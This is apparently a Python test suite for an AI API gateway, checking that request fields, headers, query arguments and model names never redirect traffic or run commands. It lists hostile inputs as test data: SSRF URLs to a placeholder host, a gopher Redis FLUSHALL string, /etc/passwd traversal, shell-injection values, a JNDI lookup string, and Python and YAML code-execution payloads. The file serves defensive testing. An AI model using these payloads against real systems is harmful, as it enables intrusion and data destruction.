"""
Where the gateway goes is the operator's to say: no request names a host, a file or a command.

Every field, header and query argument that led some gateway astray is sent to every route,
with what would lead astray in it; whatever is answered, the configured places are the only
ones that are ever asked, and text is only ever text.
"""

from __future__ import annotations

import json
import os
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any
from urllib.parse import quote, unquote, urlsplit

from aiclient2api.testing import MemoryResponse, chat_body, gemini_body, messages_body
from tests.web_fixture import CONFIG, KEY, GatewayTestCase

BAIT = "bait.invalid"
PLACES = {
    urlsplit(CONFIG[name]).netloc
    for name in ("openai_base_url", "claude_base_url", "gemini_api_base_url")
}
JSON = ((b"content-type", b"application/json"),)

FIELDS = (
    "api_base",
    "base_url",
    "api_base_url",
    "baseURL",
    "endpoint",
    "host",
    "url",
    "target",
    "proxy",
    "proxy_url",
    "webhook",
    "callback_url",
    "custom_llm_provider",
    "model_provider",
    "provider",
    "litellm_params",
    "extra_body",
    "extra_headers",
    "extra_query",
    "headers",
    "config",
    "custom_host",
    "fallbacks",
    "mock_response",
    "api_key",
    "organization",
    "vertex_location",
    "aws_region_name",
    "region",
    "file",
    "path",
    "command",
    "script",
    "template",
    "system_prompt_file_path",
    "user_config",
)
"""Top-level fields of a body; some gateway took a host, a file or a command from each."""

HEADERS = (
    "X-Portkey-Custom-Host",
    "X-Portkey-Config",
    "X-Portkey-Provider",
    "X-Api-Base",
    "X-Base-Url",
    "X-Target-Url",
    "X-Upstream-Host",
    "X-Forwarded-Host",
    "X-Original-URL",
    "X-Rewrite-URL",
    "X-Goog-Api-Client",
    "X-Goog-User-Project",
    "X-Goog-Request-Params",
    "X-Goog-Upload-Url",
    "Anthropic-Beta",
    "Anthropic-Version",
    "OpenAI-Organization",
    "OpenAI-Beta",
    "Helicone-Target-Url",
    "Helicone-OpenAI-Api-Base",
    "Cf-Aig-Custom-Provider",
    "Litellm-Api-Base",
    "Model-Provider",
    "Proxy",
    "Via",
    "Location",
    "Destination",
    "Host",
)
QUERY = ("api_base", "base_url", "url", "host", "target", "alt", "beta", "callback", "upload_id")

ASTRAY = (
    f"http://{BAIT}/v1",
    f"https://{BAIT}",
    f"//{BAIT}/",
    f"http://127.0.0.1@{BAIT}/",
    f"gopher://{BAIT}:6379/_FLUSHALL",
    "file:///etc/passwd",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    f"?x=http://{BAIT}",
    f"#@{BAIT}/",
    f"@{BAIT}/",
    "$(touch led-astray)",
    "`touch led-astray`",
    "; touch led-astray",
    "| touch led-astray",
    "{{ 7 * 7 }}",
    "${jndi:ldap://" + BAIT + "/a}",
    "__import__('os').system('touch led-astray')",
    "!!python/object/apply:os.system ['touch led-astray']",
    "%s%n{0.__class__}",
)
"""What would lead there."""

MODELS = (
    *ASTRAY,
    f"openai-custom:http://{BAIT}/m",
    f"openai-custom@{BAIT}:m",
    f"http://{BAIT}/v1:m",
    f"{BAIT}/m",
    f"{BAIT}:m",
    "gemini-custom:../../v1/files",
    "gemini-custom:m?key=x&alt=y",
    "gemini-custom:m#x",
    "gemini-custom:m:generateContent/../../x",
    "gemini-custom:m\r\nHost: " + BAIT,
    "gemini-custom:\\..\\..\\x",
    "claude-custom:..",
    "\u2025/\uff0e\uff0e/x",
    "m\0x",
    "",
    ".",
    "..",
)
"""Names of models that are none."""

BODIES: Mapping[str, dict[str, Any]] = {
    "/v1/chat/completions": {"model": "m", "messages": [{"role": "user", "content": "hi"}]},
    "/v1/responses": {"model": "m", "input": "hi"},
    "/v1/messages": {
        "model": "m",
        "max_tokens": 9,
        "messages": [{"role": "user", "content": "hi"}],
    },
    "/v1beta/models/m:generateContent": {"contents": [{"role": "user", "parts": [{"text": "h"}]}]},
}
PROVIDERS = ("openai-custom", "claude-custom", "gemini-custom")


class OutwardTests(GatewayTestCase):
    """Three providers, each of which can be asked by each route."""

    def setUp(self) -> None:
        """Build the gateway, and keep the folder we are in."""
        self.build([], health_alert_webhook_url=None)
        self.before = set(os.listdir())
        self.asked = 0

    def send_it(
        self, target: str, body: Mapping[str, Any], headers: Mapping[str, str] | None = None
    ) -> None:
        """Send one request, whatever comes of it, and see where it led."""
        whole = (chat_body("x"), messages_body("x"), gemini_body("x"))
        self.upstream._answers = [MemoryResponse(200, JSON, [each]) for each in whole]
        raw = json.dumps(body).encode()
        given = dict(headers or {})
        self.connect()
        lines = [f"POST {target} HTTP/1.1", f"X-Api-Key: {KEY}", f"Content-Length: {len(raw)}"]
        lines += [] if "Host" in given else ["Host: gateway"]
        lines += [f"{name}: {value}" for name, value in given.items()]
        self.channel.dataReceived("\r\n".join(lines).encode() + b"\r\n\r\n" + raw)
        self.clock.pump([1.0] * 3)
        # Whoever was asked and could not answer rests; the next one is to be asked as well.
        for pool in self.setup.pools.values():
            pool.reset([account.id for account in pool.snapshot()])
        for sent in self.upstream.sent:
            self.asked += 1
            self.judge(sent.request.url, (target, body, headers))
            self.assertIsNone(sent.request.proxy)
            for name, value in sent.request.headers:
                if name not in (b"anthropic-beta", b"anthropic-version", b"openai-beta"):
                    self.assertNotIn(BAIT.encode(), value, (name, target))
        self.upstream.sent.clear()

    def judge(self, url: str, where: object) -> None:
        """The place is a configured one, and the path one of its provider's."""
        parts = urlsplit(url)
        self.assertIn(parts.netloc, PLACES, where)
        self.assertEqual(parts.scheme, "http", where)
        self.assertEqual(parts.fragment, "", where)
        path = parts.path
        if path.startswith("/v1beta/models/"):
            name, _, verb = path.removeprefix("/v1beta/models/").rpartition(":")
            self.assertIn(verb, ("generateContent", "streamGenerateContent"), where)
            segments = unquote(name).replace("\\", "/").split("/")
            self.assertFalse({".", ".."} & set(segments), (url, where))
            self.assertTrue(name.isascii() and name.isprintable(), url)
            self.assertNotIn(BAIT, parts.query)
        else:
            self.assertIn(path, ("/v1/chat/completions", "/v1/messages"), where)

    def tearDown(self) -> None:
        """No command was run here, and the gateway did go somewhere."""
        self.assertGreater(self.asked, 0, "Nothing was ever asked, so nothing is shown.")
        self.assertEqual({"led-astray"} & set(os.listdir()), set())
        self.assertFalse(Path("led-astray").exists())

    def targets(self) -> Iterator[tuple[str, Mapping[str, Any]]]:
        """Return every route before every provider, with a body that it takes."""
        for provider in PROVIDERS:
            for path, body in BODIES.items():
                yield f"/{provider}{path}", body

    def test_no_field_names_a_place(self) -> None:
        """Neither at the top of a body nor further down."""
        for number, (target, body) in enumerate(self.targets()):
            # Each field alone at every third target; all of them together at each.
            for at, field in enumerate(FIELDS[number % 3 :: 3]):
                value = ASTRAY[(at + number) % len(ASTRAY)]
                self.send_it(target, {**body, field: value})
            for value in ASTRAY:
                everything: dict[str, Any] = dict.fromkeys(FIELDS, value)
                self.send_it(target, {**everything, **body, "metadata": everything})

    def test_no_header_names_a_place(self) -> None:
        """Not one of those that name one elsewhere."""
        for number, (target, body) in enumerate(self.targets()):
            for at, header in enumerate(HEADERS):
                value = ASTRAY[(at + number) % len(ASTRAY)]
                if header == "Host":
                    value = BAIT
                self.send_it(target, body, {header: value})

    def test_no_query_names_a_place(self) -> None:
        """And no argument passes that is not meant to."""
        for target, body in self.targets():
            for value in ASTRAY:
                told = "&".join(f"{name}={quote(value, safe='')}" for name in QUERY)
                self.send_it(f"{target}?{told}", body)

    def test_no_model_names_a_place(self) -> None:
        """A model's name is a name: in a body it stays one, in a path it stays in its place."""
        for provider in PROVIDERS:
            for model in MODELS:
                for path, body in list(BODIES.items())[:3]:
                    self.send_it(f"/{provider}{path}", {**body, "model": model})
                    self.send_it(path, {**body, "model": model})
                body = BODIES["/v1beta/models/m:generateContent"]
                for name in (quote(model), quote(model, safe=""), model):
                    if name.isascii() and name.isprintable() and not set(name) & set(" #"):
                        self.send_it(f"/{provider}/v1beta/models/{name}:generateContent", body)

    def test_an_absolute_target_names_no_place(self) -> None:
        """As a client sends it that takes us for a proxy."""
        for target, body in self.targets():
            self.send_it(f"http://{BAIT}{target}", body)
            self.send_it(f"http://{KEY}@{BAIT}:1{target}", body)
